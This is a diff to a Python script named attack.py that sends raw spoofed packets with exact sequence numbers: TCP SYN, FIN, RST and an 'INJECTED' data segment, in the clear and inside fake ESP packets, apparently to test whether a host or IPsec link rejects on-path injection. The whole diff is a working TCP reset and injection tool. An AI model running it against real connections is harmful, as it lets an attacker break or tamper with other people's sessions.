@@ -1,17 +1,25 @@
-# Spoofs segments from bob's address with exact sequence numbers: RST, SYN, data.
+# attack.py SRC DST SPORT DPORT SEQ ACK [SPI...]: spoofs segments from SRC with exact sequence numbers, as somebody could who
+# sees the wire: SYN, data, FIN and RST in the clear, and the same in ESP with these SPIs and no valid key.
 import socket, struct, sys
-sport, dport, seq, ack = map(int, sys.argv[1:5])
-src, dst = socket.inet_aton("10.77.0.2"), socket.inet_aton("10.77.0.1")
+src, dst, sport, dport, seq, ack, spis = *sys.argv[1:3], *map(int, sys.argv[3:7]), sys.argv[7:]
+S, D = socket.inet_aton(src), socket.inet_aton(dst)
 def csum(b):
     b += b"\0" * (len(b) % 2)
     t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
     while t >> 16: t = (t & 0xffff) + (t >> 16)
     return ~t & 0xffff
-def segment(flags, payload=b"", s=seq):
-    h = struct.pack("!HHIIBBHHH", sport, dport, s & 0xffffffff, ack, 5 << 4, flags, 65535, 0, 0)
-    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(h) + len(payload)) + h + payload)
+def segment(flags, payload=b"", s=seq, a=ack):
+    h = struct.pack("!HHIIBBHHH", sport, dport, s & 0xffffffff, a & 0xffffffff, 5 << 4, flags, 65535, 0, 0)
+    c = csum(S + D + struct.pack("!BBH", 0, 6, len(h) + len(payload)) + h + payload)
     return h[:16] + struct.pack("!H", c) + h[18:] + payload
 raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-for tcp in (segment(0x18, b"INJECTED"), segment(0x02), segment(0x14), segment(0x04), segment(0x04, s=seq + 8)):
-    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, src, dst)
-    raw.sendto(ip + tcp, ("10.77.0.1", 0))
+def send(protocol, body):
+    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, S, D) + body, (dst, 0))
+FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
+segments = [segment(SYN), segment(SYN | ACK), segment(ACK), segment(PSH | ACK, b"INJECTED\n"), segment(FIN | ACK),
+            segment(RST | ACK), segment(RST), segment(RST, s=seq + 4), segment(RST, s=seq + 9), segment(SYN, s=seq + 1000000)]
+for tcp in segments:
+    send(6, tcp)
+for spi in spis:
+    for number, tcp in enumerate(segments, 100000):
+        send(50, struct.pack("!II", int(spi, 16), number) + b"\0" * 8 + tcp + b"\1\2\2\6" + b"\0" * 16)
